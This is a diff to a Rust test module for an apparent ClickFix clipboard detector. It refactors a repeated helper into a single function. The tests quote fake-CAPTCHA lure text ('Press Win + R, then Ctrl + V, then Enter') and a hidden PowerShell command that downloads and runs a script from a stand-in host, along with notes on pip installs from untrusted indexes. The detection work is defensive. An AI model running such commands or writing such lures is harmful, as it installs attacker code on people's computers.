@@ -2543,13 +2543,15 @@ mod tests {
         assess(clip, &page(text)).is_some()
     }
 
+    /// Whether `clip` is judged on a page of these parts served from `url`.
+    fn on(url: &str, parts: &[&str], clip: &str) -> bool {
+        assess(clip, &PageHits::new(parts.iter().copied()).on(url)).is_some()
+    }
+
     const CAPTCHA: &str = "Verify you are human. Press Win + R, then Ctrl + V, then Enter.";
 
     #[test]
     fn review40_windowless_python_pip_indexes_and_pages_of_a_few_words() {
-        let on = |url: &str, parts: &[&str], clip: &str| {
-            assess(clip, &PageHits::new(parts.iter().copied()).on(url)).is_some()
-        };
         // Windows' windowless Python and its launcher run inline code as `python` does.
         let steps = "Press Win + R, paste with Ctrl + V, press Enter.";
         for clip in [
@@ -2667,9 +2669,6 @@ mod tests {
 
     #[test]
     fn review41_bare_ip_indexes_deno_with_every_right_and_mshta_on_a_page_of_a_few_words() {
-        let on = |url: &str, parts: &[&str], clip: &str| {
-            assess(clip, &PageHits::new(parts.iter().copied()).on(url)).is_some()
-        };
         // pip or uv from an index on a bare public IP over plain http: pip runs the package's
         // build code, no run after it is needed; kept off the page, the command is the evidence.
         let story = "The notebook engine stopped. Reinstall its helper where you work.";
@@ -2746,9 +2745,6 @@ mod tests {
 
     #[test]
     fn review42_a_check_status_in_any_script_and_deno_eval() {
-        let on = |url: &str, parts: &[&str], clip: &str| {
-            assess(clip, &PageHits::new(parts.iter().copied()).on(url)).is_some()
-        };
         // A page of a few words that is only a check's status, steps in a picture, a hidden
         // download run from another site over https: ClickFix in any script.
         let hidden = "powershell -nop -w hidden -c \"iwr https://relay.test/s -useb | iex\"";
